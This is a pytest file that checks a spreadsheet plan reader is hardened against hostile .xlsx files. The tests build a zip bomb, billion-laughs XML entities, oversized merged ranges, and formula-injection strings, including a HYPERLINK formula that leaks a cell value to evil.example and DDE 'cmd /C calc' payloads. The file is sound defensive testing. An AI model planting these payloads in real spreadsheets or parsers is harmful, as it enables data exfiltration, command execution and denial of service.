"""Hostile and broken plan files: a clear error or finding, bounded in time and memory."""
from __future__ import annotations

import gc
import re
import time
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from minewatch.promised.findings import ERROR
from minewatch.promised.package import PlanFormatError
from minewatch.promised.planreader import read_plan_xlsx, read_plans
from minewatch.promised.planwriter import write_plan_xlsx
from minewatch.promised.validate import check_file
from minewatch.synth import sample

LIMIT_S = 10
LIMIT_MB = 300
SHEET = "xl/worksheets/sheet1.xml"


@pytest.fixture(scope="module")
def clean(tmp_path_factory) -> Path:
    return write_plan_xlsx(sample.annual_plan(sample.MINES[0]),
                           tmp_path_factory.mktemp("clean") / "clean.xlsx")


def _rewrite(src: Path, dst: Path, member: str, fn) -> Path:
    """Copy the .xlsx with one member's bytes replaced by fn(old bytes)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            zout.writestr(info.filename, fn(data) if info.filename == member else data)
    return dst


def _bounded(fn):
    """Run fn(); return (result or exception, seconds, peak MB of Python allocations)."""
    tracemalloc.start()
    t = time.thread_time()            # this thread's CPU seconds: neither a loaded machine nor
                                      # threads other tests leave running (Prefect, dask) count
    try:
        out = fn()
    except Exception as e:  # noqa: BLE001 - the caller checks which
        out = e
    dt = time.thread_time() - t
    peak = tracemalloc.get_traced_memory()[1] / 2**20
    tracemalloc.stop()
    assert dt < LIMIT_S, dt
    assert peak < LIMIT_MB, peak
    return out


def test_zip_bomb(clean, tmp_path):
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(clean) as zin, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, zin.read(info.filename))
        with zout.open("xl/worksheets/sheet2.xml", "w") as fh:   # 256 MiB of spaces, ~250 kB packed
            chunk = b" " * (1 << 20)
            for _ in range(256):
                fh.write(chunk)
    assert bomb.stat().st_size < 2_000_000
    e = _bounded(lambda: read_plan_xlsx(bomb))
    assert isinstance(e, PlanFormatError) and "压缩炸弹" in str(e) and "zip bomb" in str(e)
    (r,) = read_plans(bomb)
    assert r.plan is None and r.findings[0].rule == "NOT_A_PLAN_TABLE"


def test_billion_laughs(clean, tmp_path):
    dtd = (b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY lol "lol">'
           + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                      for i in range(1, 10))
           + b"]>")

    def poison(data: bytes) -> bytes:
        data = data.replace("示例黑岱沟露天煤矿".encode(), b"&lol9;", 1)
        return dtd + data

    f = _rewrite(clean, tmp_path / "laughs.xlsx", "xl/worksheets/sheet1.xml", poison)
    e = _bounded(lambda: read_plan_xlsx(f))
    assert isinstance(e, PlanFormatError) and "DTD" in str(e)
    res = _bounded(lambda: check_file(f))
    assert res.plan is None and res.findings[0].rule == "NOT_A_PLAN_TABLE"


def _far(data: bytes, row: int) -> bytes:
    """The sheet with one value in the grid's last column at `row` and a dimension reaching it."""
    extra = b'<row r="%d"><c r="XFD%d" t="n"><v>1</v></c></row>' % (row, row)
    data = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD%d"' % row, data)
    return data.replace(b"</sheetData>", extra + b"</sheetData>")


def test_one_value_at_the_last_cell_of_the_grid_costs_nothing(clean, tmp_path):
    f = _rewrite(clean, tmp_path / "far.xlsx", SHEET, lambda d: _far(d, 1_048_576))
    assert load_workbook(f).active.max_row == 1_048_576
    res = _bounded(lambda: read_plan_xlsx(f))
    assert not isinstance(res, Exception), res
    assert res.plan is not None and len(res.plan.units) == 4    # the table itself is unharmed


def test_a_row_beyond_the_grid_is_refused(clean, tmp_path):
    f = _rewrite(clean, tmp_path / "beyond.xlsx", SHEET, lambda d: _far(d, 3_000_001))
    e = _bounded(lambda: read_plan_xlsx(f))
    assert isinstance(e, PlanFormatError) and "XFD3000001" in str(e) and "outside the sheet" in str(e)


def test_too_many_cells(clean, tmp_path):
    def many(data: bytes) -> bytes:
        rows = b"".join(b'<row r="%d"><c r="H%d" t="n"><v>%d</v></c><c r="I%d" t="n"><v>1</v></c></row>'
                        % (r, r, r, r) for r in range(100, 130_100))
        return data.replace(b"</sheetData>", rows + b"</sheetData>")

    f = _rewrite(clean, tmp_path / "many.xlsx", "xl/worksheets/sheet1.xml", many)
    e = _bounded(lambda: read_plan_xlsx(f))
    assert isinstance(e, PlanFormatError) and "单元格过多" in str(e)


INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0",
              "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=1+1"]


def test_formula_injection_is_text_never_evaluated_and_stays_text_when_written(tmp_path):
    import dataclasses
    plan = sample.annual_plan(sample.MINES[0])
    units = list(plan.units)
    for i, text in enumerate(INJECTIONS[:len(units)]):
        units[i] = dataclasses.replace(units[i], quality=text, measures=text if units[i].section == "planned" else "")
    plan = dataclasses.replace(plan, units=tuple(units), holder=INJECTIONS[0], mine_name=INJECTIONS[2])
    p = write_plan_xlsx(plan, tmp_path / "inj.xlsx")
    xml = zipfile.ZipFile(p).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml          # written as text, not formulas
    ws = load_workbook(p).active                             # data_only=False: formulas would show
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    res = read_plan_xlsx(p)
    assert res.plan.holder == INJECTIONS[0] and res.plan.mine_name == INJECTIONS[2]
    want = sorted(INJECTIONS[i] for i, u in enumerate(units[:len(INJECTIONS)]) if u.section != "damage")
    assert sorted(u.quality for u in res.plan.units if u.quality in INJECTIONS) == want
    assert [u.measures for u in res.plan.units if u.section == "planned"] == \
        [u.measures for u in units if u.section == "planned"]
    # written back again: still text
    p2 = write_plan_xlsx(res.plan, tmp_path / "again.xlsx")
    assert b"<f>" not in zipfile.ZipFile(p2).read("xl/worksheets/sheet1.xml")


def test_a_real_formula_cell_is_not_evaluated(clean, tmp_path):
    wb = load_workbook(clean)
    ws = wb.active
    res = read_plan_xlsx(clean)
    u = res.plan.units[-1]
    ws.cell(row=u.row, column=5, value="=2*2")               # a formula with no cached value
    wb.save(tmp_path / "f.xlsx")
    res = read_plan_xlsx(tmp_path / "f.xlsx")
    (f,) = [f for f in res.findings if f.row == u.row]
    assert f.rule == "MISSING_AREA" and f.severity == "warning"
    assert [x.area_hm2 for x in res.plan.units if x.row == u.row] == [None]


def test_a_bad_row_never_hides_the_good_rows(clean, tmp_path):
    wb = load_workbook(clean)
    ws = wb.active
    rows = [u.row for u in read_plan_xlsx(clean).plan.units]
    ws.cell(row=rows[0], column=2, value="1,abc,def\n2,1,2")     # unparsable
    ws.cell(row=rows[2], column=4, value="\ufffd草坪\u202e" * 50)   # garbage land class
    ws.cell(row=rows[1], column=5, value=float("nan"))              # damage area: nan
    wb.save(tmp_path / "bad.xlsx")
    res = check_file(tmp_path / "bad.xlsx")
    assert res.plan is not None
    assert {f.row for f in res.findings if f.severity == ERROR} >= {rows[0], rows[2]}
    assert rows[3] in {u.row for u in res.plan.units}
    assert len(res.plan.units) >= 1


def test_not_a_zip_and_truncated_zip(clean, tmp_path):
    (tmp_path / "a.xlsx").write_bytes(b"PK\x03\x04garbage")
    (tmp_path / "b.xlsx").write_bytes(clean.read_bytes()[:2000])
    for name in ("a.xlsx", "b.xlsx"):
        e = _bounded(lambda name=name: read_plan_xlsx(tmp_path / name))
        assert isinstance(e, PlanFormatError), e


# ------------------------------------------- what loading would cost, read from the package

REFUSE_S = 5       # issue 18: refused in under 5 s and 200 MB (the file used to take 5.7 GB)
REFUSE_MB = 200


def _refused_fast(f: Path) -> str:
    """check_file(f) under tracemalloc: the one NOT_A_PLAN_TABLE finding's message.
    Time is this thread's CPU time: the machine's and the process's other threads' work does not count."""
    gc.collect()
    gc.disable()     # the suite's heap: a collection walks every earlier test's objects, not this file's
    tracemalloc.start()
    t = time.thread_time()
    try:
        res = check_file(f)
    finally:
        dt = time.thread_time() - t
        gc.enable()
    peak = tracemalloc.get_traced_memory()[1] / 2**20
    tracemalloc.stop()
    assert dt < REFUSE_S and peak < REFUSE_MB, (dt, peak)
    (finding,) = res.findings
    assert res.plan is None and finding.rule == "NOT_A_PLAN_TABLE" and finding.severity == ERROR
    assert finding.file == f.name and finding.message_zh.startswith(f.name + ": ")
    return finding.message_zh


def _whole_grid_merge(data: bytes) -> bytes:
    """One value at XFD1048576 and the last merge widened to A21:XFD1048576 (17 billion cells)."""
    data = re.sub(rb'<mergeCell ref="A21:G21"\s*/>', b'<mergeCell ref="A21:XFD1048576" />', data)
    assert b"A21:XFD1048576" in data
    return _far(data, 1_048_576)


def _hostile(clean: Path, dst: Path, sheet_fn, encoding: str = "utf-8", part: str = SHEET) -> Path:
    """The clean plan rebuilt with zipfile: the sheet XML through sheet_fn, re-encoded, and
    stored under another part name (the workbook's relationship and content type follow)."""
    with zipfile.ZipFile(clean) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            name = info.filename
            if name == SHEET:
                text = sheet_fn(data).decode("utf-8")
                if encoding != "utf-8":
                    text = f'<?xml version="1.0" encoding="{encoding.upper().replace("-SIG", "")}"?>' + text
                data, name = text.encode(encoding), part
            elif name in ("xl/_rels/workbook.xml.rels", "[Content_Types].xml"):
                data = data.replace(SHEET.removeprefix("xl/").encode(), part.removeprefix("xl/").encode())
            zout.writestr(name, data)
    return dst


@pytest.mark.parametrize("encoding,part", [
    ("utf-8", SHEET),
    ("utf-16", SHEET),                         # with a BOM, as Excel never writes but parsers read
    ("utf-16-le", SHEET),                      # no BOM: found from '<' 00
    ("utf-8", "xl/worksheets/sheet1.bin"),     # a worksheet part by any other name
])
def test_a_7kb_plan_merged_to_the_end_of_the_grid_is_refused_before_openpyxl(clean, tmp_path, encoding, part):
    f = _hostile(clean, tmp_path / "merged.xlsx", _whole_grid_merge, encoding, part)
    assert f.stat().st_size < 8_000
    msg = _refused_fast(f)
    assert part in msg and "17179541590 in merged" in msg and "不像年度计划表" in msg


def test_a_merged_range_with_a_gt_in_an_attribute_is_still_read(clean, tmp_path):
    def hide(data: bytes) -> bytes:
        return _whole_grid_merge(data).replace(b'<mergeCell ref="A21:', b'<mergeCell x=">" ref="A21:')
    msg = _refused_fast(_hostile(clean, tmp_path / "gt.xlsx", hide))
    assert "17179541590 in merged" in msg


def test_a_hyperlink_over_the_whole_grid_is_refused(clean, tmp_path):
    def link(data: bytes) -> bytes:   # openpyxl creates every cell of a hyperlink's range
        return data.replace(b"<pageMargins", b'<hyperlinks><hyperlink ref="A1:XFD1048576" '
                                              b'location="Sheet1!A1" display="x" /></hyperlinks><pageMargins')
    msg = _refused_fast(_hostile(clean, tmp_path / "link.xlsx", link))
    assert "17179869279 in merged, hyperlinked" in msg


def test_utf16_billion_laughs_is_refused(clean, tmp_path):
    def laughs(data: bytes) -> bytes:
        dtd = b'<!DOCTYPE worksheet [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>'
        return dtd + data.replace("示例黑岱沟露天煤矿".encode(), b"&lol2;", 1)
    msg = _refused_fast(_hostile(clean, tmp_path / "laughs16.xlsx", laughs, "utf-16"))
    assert "DTD" in msg


@pytest.mark.parametrize("encoding,why", [("utf-32", "XML encoded as utf-32"),
                                          ("gb18030", "declares XML encoding 'GB18030'")])
def test_xml_in_an_encoding_opc_does_not_allow_is_refused(clean, tmp_path, encoding, why):
    msg = _refused_fast(_hostile(clean, tmp_path / "enc.xlsx", lambda d: d, encoding))
    assert why in msg and "UTF-8 or UTF-16" in msg


def test_a_million_row_elements_are_refused(clean, tmp_path):
    def rows(data: bytes) -> bytes:   # each row with a height is a RowDimension object
        return data.replace(b"</sheetData>", b"".join(b'<row r="%d" ht="9" customHeight="1" />' % r
                                                      for r in range(100, 200_100)) + b"</sheetData>")
    msg = _refused_fast(_hostile(clean, tmp_path / "rows.xlsx", rows))
    assert "more than 100000 rows" in msg


def test_too_many_elements_and_an_endless_tag_are_refused(clean, tmp_path):
    many = _hostile(clean, tmp_path / "elements.xlsx",
                    lambda d: d.replace(b"<pageMargins", b"<x/>" * 600_000 + b"<pageMargins"))
    assert "more than 500000 XML elements" in _refused_fast(many)
    endless = _hostile(clean, tmp_path / "endless.xlsx",
                       lambda d: d.replace(b"<pageMargins", b'<x y="' + b"z" * 3_000_000))
    assert "tag longer than" in _refused_fast(endless)


def test_whole_sheet_selections_and_drawing_refs_are_no_cost_and_read(clean, tmp_path):
    def select_all(data: bytes) -> bytes:   # Ctrl+A, then save: Excel writes the grid as the selection
        return data.replace(b'sqref="A1"', b'sqref="A1:XFD1048576"')
    f = _hostile(clean, tmp_path / "selected.xlsx", select_all)
    res = check_file(f)
    assert res.plan is not None and len(res.plan.units) == 4
    assert [x.rule for x in res.findings if x.severity == ERROR] == []


def test_openpyxl_parses_with_defusedxml():
    import openpyxl.xml
    assert openpyxl.xml.DEFUSEDXML is True
